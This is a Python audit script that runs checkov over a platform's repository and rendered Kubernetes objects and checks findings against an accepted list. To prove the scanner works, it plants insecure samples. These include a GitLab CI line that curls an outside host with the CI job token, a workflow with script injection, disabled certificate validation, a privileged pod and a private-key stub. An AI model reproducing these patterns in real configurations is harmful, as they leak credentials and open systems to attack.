#!/usr/bin/env python3
"""Have checkov judge every object that the platform applies, and every file of the repository.

Objects are those of production, and those of what it does not choose. Ends in 0 only if every finding is
accepted in accepted.yml, with a reason, nothing is accepted there that is not found, and every kind of check
has found the fault that is planted for it. `--all` prints the accepted ones as well. Checkov asks nobody: it
has its checks with it.
"""

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from fnmatch import fnmatchcase
from pathlib import Path

import yaml
from pydantic import BaseModel, ConfigDict, Field, TypeAdapter

from quote_platform import certificates, paths
from quote_platform.mirror import fill, storage
from quote_platform.mirror.catalogue import Part

ROOT = Path(__file__).resolve().parents[2]
HERE = Path(__file__).resolve().parent
INVENTORY = "inventories/production"
# What production does not choose: the lab's choices, and others that it cannot run.
OTHERS = {
    "ingress_controller": "traefik",
    "certificate_issuer": "letsencrypt-prod",
    "cert_manager_email": "ops@example.com",
    "secrets_delivery_method": "csi",
    "logging_collector": "fluentd",
    "logging_line_archive": "s3",
    "logging_store": "external",
    "logging_url": "https://logs.example.com:9200",
    "monitoring_prometheus_host": "prometheus.example.com",
    "monitoring_alertmanager_host": "alerts.example.com",
    "object_store_endpoint": "https://192.0.2.30:7070",
    "delivery": "flux",
    "flux_repository": "https://git.example.com/delivery.git",
    "velero_snapshot_drivers": ["ebs.csi.aws.com"],
}
# Of the tracked files; `secrets` reads them all, whatever their names.
FRAMEWORKS = ("ansible", "github_actions", "gitlab_ci", "dockerfile", "kubernetes", "secrets")
# Checkov knows container files by another name.
CONTAINER_FILE, AS_CHECKOV_NAMES_IT = "Containerfile", "Containerfile.dockerfile"


@dataclass(frozen=True)
class Planted:
    """A fault that must be found: an auditor that is blind would pass everything."""

    path: str
    check: str
    content: str


PLANTED = {
    "kubernetes": Planted(
        "planted/pod.yaml",
        "CKV_K8S_16",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: planted, namespace: planted}\n"
        "spec: {containers: [{name: a, image: a, securityContext: {privileged: true}}]}\n",
    ),
    "ansible": Planted(
        "planted/playbook.yml",
        "CKV_ANSIBLE_2",
        "- name: Planted\n  hosts: all\n  tasks:\n    - name: Fetch\n      ansible.builtin.get_url:\n"
        "        url: https://example.com/a\n        dest: /tmp/a\n        validate_certs: false\n",
    ),
    "github_actions": Planted(
        ".github/workflows/planted.yml",
        "CKV_GHA_2",
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
        "      - run: echo ${{ github.event.issue.title }}\n",
    ),
    "gitlab_ci": Planted(
        "planted/.gitlab-ci.yml",
        "CKV_GITLABCI_1",
        'a:\n  script:\n    - curl "https://example.com/?token=$CI_JOB_TOKEN"\n',
    ),
    "dockerfile": Planted(f"planted/{AS_CHECKOV_NAMES_IT}", "CKV_DOCKER_3", "FROM a:1\nRUN true\n"),
    # Put together here, since this file is searched as well.
    "secrets": Planted(
        "planted/notes", "CKV_SECRET_13", f"-----BEGIN {'PRIVATE'} KEY-----\nMIIEvgIBADANBgkqhkiG9w0BAQ\n"
    ),
}


class Accepted(BaseModel):
    """Findings that stay: of these checks, at these places, which may have wildcards, for this reason."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    reason: str = Field(min_length=20)
    checks: list[str] = Field(min_length=1)
    places: list[str] = Field(min_length=1)


@dataclass(frozen=True, order=True)
class Finding:
    """What a check says against an object or a file; of a secret, the place ends in `#` and its digest."""

    check: str
    place: str
    says: str = ""


def judge(findings: Iterable[Finding], accepted: list[Accepted]) -> tuple[list[Finding], list[str]]:
    """Return the findings that nobody has accepted, and what is accepted though nothing finds it."""
    left, used = [], Counter[tuple[int, str]]()
    for finding in findings:
        known = False
        for at, one in enumerate(accepted):
            places = [place for place in one.places if fnmatchcase(finding.place, place)]
            if finding.check in one.checks and places:
                known = True
                used.update((at, part) for part in (finding.check, *places))
        if not known:
            left.append(finding)
    stale = [
        f"{part}: accepted ({one.reason}), but not found"
        for at, one in enumerate(accepted)
        for part in (*one.checks, *one.places)
        if not used[at, part]
    ]
    return left, stale


def unseen(findings: Iterable[Finding], planted: Iterable[Planted]) -> tuple[set[Finding], list[str]]:
    """Return the findings that are not planted, and the planted faults that were not found."""
    planted = list(planted)
    found = {(finding.check, finding.place.partition("#")[0]) for finding in findings}
    paths_of = {one.path for one in planted}
    others = {finding for finding in findings if finding.place.partition("#")[0] not in paths_of}
    return others, [f"{one.check} {one.path}" for one in planted if (one.check, one.path) not in found]


def release_manifests() -> Path:
    """Return the folder with the manifests of all parts, some of which a mirror does not usually have."""
    report = fill.fill(fill.Provider.AUTO, [".yaml", ".yml"], 2, lambda _: None, parts=list(Part))
    if report.failed:
        sys.exit(f"manifests cannot be had: {report.failed}")
    return storage.root() / "www" / "manifests"


def render(folder: Path, manifests: Path, choices: Mapping[str, object]) -> Path:
    """Write every object that playbooks apply; return the folder, with a file for each."""
    secrets, objects = folder / "secrets", folder / "objects"
    # What roles keep after their first run, and leave out of a dry run.
    for name in ("barman-cloud-server", "barman-cloud-client", "postgres-authority"):
        certificates.make(
            secrets / "certificates" / name, name, [name], 1, issuer=None, is_ca=name.endswith("authority")
        )
    variables = {
        "render_repository": str(objects),
        "cluster_secrets_dir": str(secrets),
        "manifest_base_url": manifests.as_uri(),
        **choices,
    }
    command = ["ansible-playbook", "-i", INVENTORY, "playbooks/render.yml", "-e"]
    done = subprocess.run(
        [*command, json.dumps(variables)],
        cwd=ROOT,
        env={name: value for name, value in os.environ.items() if name != "KUBECONFIG"},
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        sys.exit(f"the objects could not be rendered:\n{done.stdout[-4000:]}{done.stderr[-1000:]}")
    for definition in objects.rglob("customresourcedefinition-*.yaml"):
        definition.unlink()  # large, and no check looks at them
    return objects / "objects"


def tracked(folder: Path) -> Path:
    """Copy the tracked files into a folder, as they are now; return it."""
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True)
    for name in filter(None, listed.stdout.split("\0")):
        source, target = ROOT / name, folder / name
        if source.name == CONTAINER_FILE:
            target = target.with_name(AS_CHECKOV_NAMES_IT)
        if source.is_file() and not source.is_symlink():
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(source, target)
    return folder


def checkov(folder: Path, *frameworks: str) -> set[Finding]:
    """Plant faults in a folder; return what checkov finds in it beside them, by places in the folder."""
    for name in frameworks:
        file = folder / PLANTED[name].path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(PLANTED[name].content)
    cache = paths.cache()
    caches = {"UV_PROJECT_ENVIRONMENT": str(cache / "auditors"), "UV_CACHE_DIR": str(cache / "uv")}
    command = ["uv", "run", "--project", str(HERE), "--locked", "--python", sys.executable]
    done = subprocess.run(
        [*command, "python", str(HERE / "scan.py"), str(folder), *frameworks],
        cwd=folder,
        env=os.environ | caches,
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        sys.exit(f"checkov has failed:\n{done.stderr[-4000:]}")
    found = set[Finding]()
    for name, result in json.loads(done.stdout.splitlines()[-1]).items():
        if result["unread"]:
            sys.exit(f"checkov cannot read {', '.join(result['unread'])}")
        found |= {Finding(*one) for one in result["failed"]}
        print(f"  {name}: {result['passed']} checks passed, {len(result['failed'])} did not")
    found, overlooked = unseen(found, [PLANTED[name] for name in frameworks])
    if overlooked:
        sys.exit(f"checkov has overlooked what was planted: {', '.join(overlooked)}")
    return found


def audit() -> set[Finding]:
    """Return all findings."""
    with tempfile.TemporaryDirectory(prefix="quote-audit-") as temporary:
        folder, manifests = Path(temporary), release_manifests()
        print("files:")
        found = checkov(tracked(folder / "repository"), *FRAMEWORKS)
        for name, choices in {"production": {}, "others": OTHERS}.items():
            print(f"objects of {name}:")
            found |= checkov(render(folder / name, manifests, choices), "kubernetes")
    return found


def main() -> int:
    """Audit, and name what is not accepted."""
    parser = argparse.ArgumentParser(description="Have checkov judge the platform's objects and files.")
    parser.add_argument("--all", action="store_true", help="print the findings that are accepted as well")
    options = parser.parse_args()
    accepted = TypeAdapter(list[Accepted]).validate_python(
        yaml.safe_load((HERE / "accepted.yml").read_text())
    )
    found = audit()
    left, stale = judge(found, accepted)
    for one in sorted(found if options.all else left):
        print(f"{one.check} {one.place}: {one.says}")
    for line in stale:
        print(line)
    print(f"{len(found)} findings, {len(found) - len(left)} of them accepted, {len(left)} not")
    return int(bool(left or stale))


if __name__ == "__main__":
    sys.exit(main())
